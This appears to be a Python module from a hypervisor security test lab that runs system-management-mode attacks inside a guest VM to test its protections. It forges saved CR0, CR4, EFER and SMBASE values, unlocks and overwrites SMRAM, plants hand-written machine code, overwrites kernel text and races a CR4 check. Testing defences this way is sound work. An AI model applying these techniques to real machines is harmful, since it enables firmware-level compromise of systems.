"""System-management mode: SMI and RSM as a transition, and what a bad SMI handler, can forge."""

from __future__ import annotations

import re
import struct
import time
from collections.abc import Callable

from vtlab.client.driver import COMMAND_PORT, READY, Driver, parse
from vtlab.client.machine import Machine
from vtlab.client.serial import read_first
from vtlab.client.symbols import Symbols
from vtlab.errors import TimedOut
from vtlab.x86.registers import Cr0, Cr4, Efer
from vtlab_attacks.evidence import Attack, Attempts, Evidence, Run, Transition, observe
from vtlab_attacks.guest import BOOT_TIMEOUT, Guest
from vtlab_attacks.resets import say
from vtlab_attacks.state import direct, memory, register, show_bytes

# vtl0_guest/kernels/selfguard/smm.h
SMRAM, ENTRY, SAVE_AREA = 0xA0000, 0x8000, 0xFE00
NOTHING, POKE, ARM, POKES, STORM = 1, 2, 3, 4, 256
EFER, SMBASE, CR4, CR0, RIP = 0xD0, 0x100, 0x148, 0x158, 0x178
BACK = re.compile(rf"selfguard: back from SMI|{READY}")
REFUSED = re.compile(r"(error errno=\d+|fault vector=[^\n]*)(?=\n)")
LOOK = 0.1  # seconds between looks at where a silent guest is
CONFIG_ADDRESS, CONFIG_DATA, SMRAM_REGISTER, OPEN_ENABLED = 0xCF8, 0xCFC, 0x8000009C, 0x48

BLACK_HAT = "Wojtczuk, Rutkowska 2009, Attacking SMM memory; Kallenberg et al. 2013"
CALLOUT = "Oleksiuk 2016, ThinkPwn: an SMI handler writes where its caller says"
SEAN_SMM = "Heki thread (Christopherson 2023): SMM entry and RSM change control registers"


def run_smi(
    machine: Machine,
    attempts: Attempts,
    command: int,
    value: int = 0,
    address: int = 0,
    stopped: Callable[[], bool] = lambda: False,
) -> None:
    """Has the guest ask for an SMI; it comes back, or the machine is reset and its kernel starts again.

    A kernel that was started by kexec has no handler in SMRAM, and says no; one that a guard stops on the way faults.

    Args:
        stopped: whether the guest is where it says nothing any more, by the machine's state.
    """
    generation = machine.info().generation
    log = machine.serial_reader(0, from_now=True)
    answers = machine.serial_reader(COMMAND_PORT, from_now=True)
    say(machine, f"smi {command} {value:#x} {address:#x}")
    deadline = time.monotonic() + BOOT_TIMEOUT
    while True:
        try:
            came, answer = read_first([(log, BACK), (answers, REFUSED)], LOOK)
            break
        except TimedOut:
            if stopped():
                return
            if time.monotonic() > deadline:
                raise
    if came == 1:
        attempts.step(parse, answer.rpartition("\n")[2])  # what came before answers an earlier command
        return
    after = machine.info()
    attempts.note(after.reason if after.generation != generation else "")


def forge(what: str, field: int, name: str, bit: Cr0 | Cr4 | Efer) -> Run:
    """The handler stores into its own save area; RSM loads it."""

    def run(machine: Machine, _driver: Driver, symbols: Symbols) -> Evidence:
        def state() -> int:
            return int(bool(register(machine, name) & bit))

        def steps(attempts: Attempts) -> None:
            run_smi(machine, attempts, POKE, register(machine, name) & ~bit & 0xFFFF_FFFF, SMRAM + SAVE_AREA + field)

        return observe(what, state, steps, symbols, lambda _, after: not after)

    return run


# 16-bit code: mov dword ptr [imm32], imm32; rsm
def marker(at: int, value: bytes) -> bytes:
    return b"\x67\x66\xc7\x05" + struct.pack("<I", at) + value + b"\x0f\xaa"


MARK = b"inSM"


def forge_smbase(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """The next SMI would run the attacker's code, with no pin in force."""
    base = symbols.physical("driver_mailbox")
    mark = base + 0x100
    driver.write_bytes(symbols["driver_mailbox"] + 0x100, bytes(len(MARK)))
    driver.write_bytes(symbols["driver_mailbox"] + ENTRY, marker(mark, MARK))

    def steps(attempts: Attempts) -> None:
        run_smi(machine, attempts, POKE, base, SMRAM + SAVE_AREA + SMBASE)
        if not attempts.denials:
            run_smi(machine, attempts, NOTHING)

    return observe(
        "mark of the attacker's code in SMM",
        lambda: memory(machine, mark, len(MARK)),
        steps,
        symbols,
        lambda _, after: after == MARK,
        show_bytes,
    )


def write_smram(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Opens SMRAM, replaces the handler, and asks for an SMI."""
    mark = symbols.physical("driver_mailbox") + 0x100
    driver.write_bytes(symbols["driver_mailbox"] + 0x100, bytes(len(MARK)))

    def steps(attempts: Attempts) -> None:
        driver.call(symbols["outl"], CONFIG_ADDRESS, SMRAM_REGISTER)
        driver.call(symbols["outl"], CONFIG_DATA, OPEN_ENABLED << 8)
        held = driver.call(symbols["inl"], CONFIG_DATA) >> 8 & 0xFF
        attempts.step(driver.write_bytes, direct(SMRAM + ENTRY), marker(mark, MARK))
        run_smi(machine, attempts, NOTHING)
        attempts.note("" if held == OPEN_ENABLED | 2 else f"the SMRAM register stays {held:#x}, locked")

    return observe(
        "mark of the attacker's code in SMM",
        lambda: memory(machine, mark, len(MARK)),
        steps,
        symbols,
        lambda _, after: after == MARK,
        show_bytes,
    )


def smm_writes_text(machine: Machine, _driver: Driver, symbols: Symbols) -> Evidence:
    """Pins are suspended in SMM; the rights on memory are not."""
    target = symbols.physical("static_key_audit")

    def steps(attempts: Attempts) -> None:
        run_smi(machine, attempts, POKE, 0xCCCCCCCC, target)

    return observe("code of static_key_audit", lambda: memory(machine, target, 4), steps, symbols, show=show_bytes)


def smi_between(machine: Machine, _driver: Driver, symbols: Symbols) -> Evidence:
    """An SMI comes while the kernel writes CR4 as VTL1 checks it; the handler clears SMEP in all that it finds.

    A kernel or an owner that looks after the write may have set it right again: the handler is still there, and its
    next SMI comes when nobody looks.
    """

    def smep() -> int:
        return int(bool(register(machine, "cr4") & Cr4.SMEP))

    def steps(attempts: Attempts) -> None:
        run_smi(machine, attempts, ARM, int(Cr4.SMEP))
        run_smi(machine, attempts, STORM)
        if smep():
            run_smi(machine, attempts, NOTHING)

    return observe("CR4.SMEP", smep, steps, symbols, lambda _, after: not after)


def smi(guest: Guest) -> tuple[Guest, Evidence]:
    """The handler runs and the kernel goes on."""
    first = guest.driver.smi(NOTHING)
    second = guest.driver.smi(NOTHING)
    before = guest.machine.registers().registers
    evidence = Evidence("SMIs handled", str(first), str(second), second == first + 1, False)
    after = guest.machine.registers().registers
    same = (before.cr0, before.cr3, before.cr4, before.efer) == (after.cr0, after.cr3, after.cr4, after.efer)
    return guest, evidence if same else Evidence("control registers", str(before), str(after), False, False)


def suspend_to_idle(guest: Guest) -> tuple[Guest, Evidence]:
    """Nothing is lifted: the timer ends it."""
    start = guest.driver.ticks()
    slept = guest.driver.sleep(0, IDLE_TICKS)
    after = guest.driver.ticks()
    reached = slept >= IDLE_TICKS and after - start >= slept
    return guest, Evidence("timer interrupts", str(start), str(after), reached, False)


IDLE_TICKS = 5
TRANSITIONS = [
    Transition("smi", "SMI into the handler in SMRAM, and RSM", "Intel SDM volume 3, system management mode", smi),
    Transition("suspend-to-idle", "Waits in HLT with all but the timer off", "Linux s2idle", suspend_to_idle),
]
TRANSITION_ATTACKS = [
    Attack("rsm-forged-cr0", "RSM loads CR0 without WP", SEAN_SMM, forge("CR0.WP", CR0, "cr0", Cr0.WP)),
    Attack("rsm-forged-cr4", "RSM loads CR4 without SMEP", SEAN_SMM, forge("CR4.SMEP", CR4, "cr4", Cr4.SMEP)),
    Attack("rsm-forged-efer", "RSM loads EFER without SCE", SEAN_SMM, forge("EFER.SCE", EFER, "efer", Efer.SCE)),
    Attack("rsm-forged-smbase", "RSM moves SMBASE to the attacker's memory", BLACK_HAT, forge_smbase),
    Attack(
        "smram-write",
        "Opens SMRAM after its lock, and replaces the handler",
        BLACK_HAT,
        write_smram,
        "SMRAM's lock is the chipset's: it holds with and without VTL1",
    ),
    Attack("smm-writes-text", "Has the SMI handler overwrite kernel text", CALLOUT, smm_writes_text),
    Attack(
        "smi-between-check-and-use",
        "An SMI comes while VTL1 checks a write of CR4, and changes what is used",
        "litebox issue 1036 (TOCTOU)",
        smi_between,
    ),
]
